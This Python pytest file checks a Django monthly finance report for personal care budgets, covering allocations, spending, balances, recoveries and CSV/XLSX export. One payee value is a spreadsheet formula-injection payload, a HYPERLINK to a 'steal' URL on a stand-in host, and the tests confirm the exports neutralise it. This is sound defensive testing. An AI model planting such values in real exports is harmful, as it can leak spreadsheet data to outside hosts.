"""The monthly finance report against a small data set built by hand through the real
money services: every figure is checked against amounts written down here (or summed
straight from the ledger), never against the report's own code.

The month is the current one, because refunds, corrections and recoveries are dated
the day they are made; the budgets started in the month before, so opening balances
and last month's spending are there to be left out."""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass
from typing import Any

import openpyxl
import pytest
from django.db.models import Sum
from django.utils import timezone

from budgets import services
from budgets.models import (
    Budget,
    FundingStream,
    LedgerEntry,
    ManagementOption,
    SpendCategory,
)
from core.reporting.finance_report import Month, finance_report
from core.reporting.report_tables import report_csv, report_xlsx
from tests.conftest import staff_user
from tests.factories import (
    BudgetHolderFactory,
    OrganisationFactory,
    add_contribution,
    make_budget,
    pay_in,
)
from users.models import Organisation, Role

EVIL_PAYEE = '=HYPERLINK("https://example.invalid/steal?x="&A1,"Click")'
TODAY = timezone.localdate()
MONTH = Month(TODAY.year, TODAY.month)
LAST_MONTH = MONTH.start - datetime.timedelta(days=5)
BUDGET_START = MONTH.start - datetime.timedelta(days=40)


@dataclass
class Books:
    org: Any
    council: Any
    other_icb: Any
    finance: Any
    alex: Any  # integrated budget: org's CHC and the council's social care
    bea: Any  # org's mental health, direct payment
    alex_chc: Any
    alex_council: Any
    bea_mh: Any


def _spend(budget: Budget, contribution: Any, payee: str, on: datetime.date, pence: int,
           category: str) -> Any:  # fmt: skip
    return services.spend_record(
        budget=budget,
        contribution=contribution,
        payee=payee,
        spent_on=on,
        amount_pence=pence,
        category=category,
        recorded_by=budget.holder.user,
        idempotency_key=f"t-{budget.pk}-{payee}-{on}-{pence}",
    )


@pytest.fixture
def books(db: Any) -> Books:
    org = OrganisationFactory(name="North ICB", kind=Organisation.Kind.ICB)
    council = OrganisationFactory(name="Northtown Council", kind=Organisation.Kind.LOCAL_AUTHORITY)
    other = OrganisationFactory(name="South ICB", kind=Organisation.Kind.ICB)
    finance = staff_user(org, Role.FINANCE_OFFICER)
    alex = BudgetHolderFactory(name="Alex Able", organisation=org, council=council)
    bea = BudgetHolderFactory(name="Bea Bright", organisation=org)
    cal = BudgetHolderFactory(name="Cal Other", organisation=other)

    alex_budget = make_budget(
        alex, funder=org, stream=FundingStream.NHS_CHC, yearly_pence=13_000_00,
        period_start=BUDGET_START,
    )  # fmt: skip
    alex_chc = alex_budget.contributions.get()
    alex_council = add_contribution(
        alex_budget, funder=council, stream=FundingStream.COUNCIL_SOCIAL_CARE,
        yearly_pence=5_200_00,
    )  # fmt: skip
    bea_budget = make_budget(
        bea, funder=org, stream=FundingStream.NHS_MENTAL_HEALTH, yearly_pence=6_500_00,
        period_start=BUDGET_START, management_option=ManagementOption.DIRECT_PAYMENT,
    )  # fmt: skip
    bea_mh = bea_budget.contributions.get()
    cal_budget = make_budget(cal, funder=other, yearly_pence=9_999_00, period_start=BUDGET_START)
    # An indicative budget the organisation would fund: nothing agreed, not in the report.
    make_budget(
        BudgetHolderFactory(name="Dee Draft", organisation=org), funder=org,
        yearly_pence=7_777_00, state=Budget.State.INDICATIVE, period_start=BUDGET_START,
    )  # fmt: skip

    # Payments in: last month and this month.
    pay_in(alex_chc, 1_000_00, due_on=LAST_MONTH)
    pay_in(alex_chc, 1_000_00, due_on=MONTH.start)
    pay_in(alex_council, 400_00, due_on=MONTH.start)
    pay_in(bea_mh, 500_00, due_on=LAST_MONTH)
    pay_in(bea_mh, 500_00, due_on=MONTH.start)
    pay_in(cal_budget.contributions.get(), 900_00, due_on=MONTH.start)

    # Spending last month (left out of the month's spending, in the opening balance).
    _spend(alex_budget, alex_chc, "Care Co", LAST_MONTH, 200_00, SpendCategory.CARE_AGENCY)
    # Spending this month.
    _spend(alex_budget, alex_chc, EVIL_PAYEE, TODAY, 120_00, SpendCategory.PERSONAL_ASSISTANT)
    care = _spend(alex_budget, alex_chc, "Care Co", TODAY, 300_00, SpendCategory.CARE_AGENCY)
    _spend(alex_budget, alex_council, "Physio Ltd", TODAY, 50_00, SpendCategory.THERAPY)
    _spend(bea_budget, bea_mh, "Care Co", TODAY, 80_00, SpendCategory.CARE_AGENCY)
    bus = _spend(bea_budget, bea_mh, "Bus", TODAY, 15_50, SpendCategory.TRANSPORT)
    _spend(cal_budget, cal_budget.contributions.get(), "Care Co", TODAY, 99_00, "care_agency")

    # A refund of part of a spend, and a spend corrected as recorded in error.
    services.spend_refund(
        spend=care, amount_pence=45_00, reason="Visit cancelled", recorded_by=alex.user,
        idempotency_key="refund-care",
    )  # fmt: skip
    services.transaction_correct(
        original=bus.transaction, reason="Recorded twice", corrected_by=finance,
        idempotency_key="correct-bus",
    )  # fmt: skip

    # Recoveries: one recovered this month (after reconsideration), one still open.
    recovered = services.surplus_recovery_propose(
        contribution=bea_mh, amount_pence=100_00, reasons="Unspent for months.",
        respond_by=TODAY + datetime.timedelta(days=14), proposed_by=finance,
    )  # fmt: skip
    services.surplus_recovery_request_reconsideration(
        recovery=recovered, reasons="I am saving for a course.", requested_by=bea.user
    )
    services.surplus_recovery_decide(
        recovery=recovered, recover=True, reasons="Part of it, as agreed.", decided_by=finance,
        amount_pence=80_00,
    )  # fmt: skip
    services.surplus_recovery_propose(
        contribution=alex_chc, amount_pence=50_00, reasons="Unspent.",
        respond_by=TODAY + datetime.timedelta(days=21), proposed_by=finance,
    )  # fmt: skip
    return Books(org, council, other, finance, alex, bea, alex_chc, alex_council, bea_mh)


def test_allocations_are_the_organisations_contributions_and_the_months_payments_in(
    books: Books,
) -> None:
    report = finance_report(organisation=books.org, month=MONTH)
    section = report.section("allocations")
    got = {(row[0], row[3]): (row[5], row[6]) for row in section.rows}
    assert got == {
        ("Alex Able", "NHS continuing healthcare"): (13_000_00, 1_000_00),
        ("Bea Bright", "NHS mental health"): (6_500_00, 500_00),
    }
    assert section.total is not None
    assert section.total[5:] == [19_500_00, 1_500_00]


def test_spending_by_category_stream_and_payee_is_the_months_spends_less_money_back(
    books: Books,
) -> None:
    report = finance_report(organisation=books.org, month=MONTH)
    by_category = {row[0]: row[1:] for row in report.section("spend_by_category").rows}
    # Care Co 300 (45 refunded) for Alex and 80 for Bea; the bus fare corrected in full.
    assert by_category == {
        "Personal assistant": [1, 120_00, 0, 120_00],
        "Care or support agency": [2, 380_00, 45_00, 335_00],
        "Transport": [1, 15_50, 15_50, 0],
    }
    assert report.section("spend_by_category").total == ["Total", 4, 515_50, 60_50, 455_00]
    by_stream = {row[0]: row[1:] for row in report.section("spend_by_stream").rows}
    assert by_stream == {
        "NHS continuing healthcare": [2, 420_00, 45_00, 375_00],
        "NHS mental health": [2, 95_50, 15_50, 80_00],
    }
    by_payee = report.section("spend_by_payee").rows
    assert by_payee == [
        ["Care Co", 2, 380_00, 45_00, 335_00],
        [EVIL_PAYEE, 1, 120_00, 0, 120_00],
        ["Bus", 1, 15_50, 15_50, 0],
    ]


def test_balances_reconcile_and_equal_the_ledger(books: Books) -> None:
    report = finance_report(organisation=books.org, month=MONTH)
    section = report.section("balances")
    rows = {row[0]: row for row in section.rows}
    assert set(rows) == {"Alex Able", "Bea Bright"}  # only the organisation's own accounts
    #               start     paid in   spent    refunds recovered corrections end
    assert rows["Alex Able"][4:] == [800_00, 1_000_00, 420_00, 45_00, 0, 0, 1_425_00]
    assert rows["Bea Bright"][4:] == [500_00, 500_00, 95_50, 0, 80_00, 15_50, 840_00]
    for contribution, row in ((books.alex_chc, rows["Alex Able"]),
                              (books.bea_mh, rows["Bea Bright"])):  # fmt: skip
        ledger = LedgerEntry.objects.filter(account__contribution=contribution).aggregate(
            total=Sum("amount_pence")
        )["total"]
        contribution.account.refresh_from_db()
        assert row[10] == ledger == contribution.account.balance_pence
        start, paid, spent, refunds, recovered, corrections, end = row[4:]
        assert start + paid - spent + refunds - recovered + corrections == end
    assert section.total is not None
    assert section.total[4:] == [1_300_00, 1_500_00, 515_50, 45_00, 80_00, 15_50, 2_265_00]


def test_recoveries_in_progress_at_the_months_end_and_recovered_in_it(books: Books) -> None:
    report = finance_report(organisation=books.org, month=MONTH)
    section = report.section("recoveries")
    got = {(row[0], row[5]): (row[6], row[7]) for row in section.rows}
    assert got == {
        ("Alex Able", "In progress at the end of the month"): (50_00, None),
        ("Bea Bright", "Recovered in the month"): (None, 80_00),
    }
    assert section.total is not None
    assert section.total[6:] == [50_00, 80_00]
    # The recovered total is the money that left the budget accounts as recoveries.
    assert section.total[7] == report.section("balances").total[8]  # type: ignore[index]


def test_last_month_holds_only_last_months_money(books: Books) -> None:
    report = finance_report(organisation=books.org, month=MONTH.previous())
    allocations = report.section("allocations")
    assert allocations.total is not None
    assert allocations.total[6] == 1_500_00
    assert {row[0]: row[1:] for row in report.section("spend_by_category").rows} == {
        "Care or support agency": [1, 200_00, 0, 200_00]
    }
    balances = {row[0]: row[4:] for row in report.section("balances").rows}
    assert balances == {
        "Alex Able": [0, 1_000_00, 200_00, 0, 0, 0, 800_00],
        "Bea Bright": [0, 500_00, 0, 0, 0, 0, 500_00],
    }
    assert report.section("recoveries").rows == []


def test_another_funder_sees_only_its_own_share(books: Books) -> None:
    report = finance_report(organisation=books.council, month=MONTH)
    allocations = report.section("allocations")
    assert [(row[0], row[5], row[6]) for row in allocations.rows] == [
        ("Alex Able", 5_200_00, 400_00)
    ]
    assert report.section("spend_by_category").total == ["Total", 1, 50_00, 0, 50_00]


def test_the_csv_holds_pounds_and_guards_against_formulas(books: Books) -> None:
    report = finance_report(organisation=books.org, month=MONTH)
    rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
    assert rows[0] == ["Report", "Monthly finance report"]
    assert ["Organisation", "North ICB"] in rows
    payees = [row for row in rows if row and row[0] == "Spending by payee"]
    assert [row[1] for row in payees] == ["Care Co", "'" + EVIL_PAYEE, "Bus", "Total"]
    assert payees[0][2:] == ["2", "380.00", "45.00", "335.00"]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    headers = [row for row in rows if row and row[0] == "Section"]
    assert headers[0] == ["Section", "Person", "NHS number", "Budget year", "Funding stream",
                          "How the money is managed", "Yearly amount (£)",
                          "Paid in this month (£)"]  # fmt: skip
    assert len(headers) == 6


def test_the_xlsx_has_a_sheet_per_section_with_numbers_and_no_formulas(books: Books) -> None:
    report = finance_report(organisation=books.org, month=MONTH)
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    assert book.sheetnames == [
        "About",
        "Allocations",
        "Spending by category",
        "Spending by funding stream",
        "Spending by payee",
        "Balances",
        "Recoveries",
    ]
    payees = list(book["Spending by payee"].iter_rows(values_only=True))
    assert payees[2][0] == "'" + EVIL_PAYEE
    cell = book["Spending by payee"]["A3"]
    assert cell.data_type == "s"
    assert payees[1][1:] == (2, 380, 45, 335)
    assert book["Spending by payee"]["C2"].number_format == "#,##0.00"
    balances = list(book["Balances"].iter_rows(values_only=True))
    assert balances[-1][0] == "Total"
    assert balances[-1][-1] == pytest.approx(2265.00)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate)
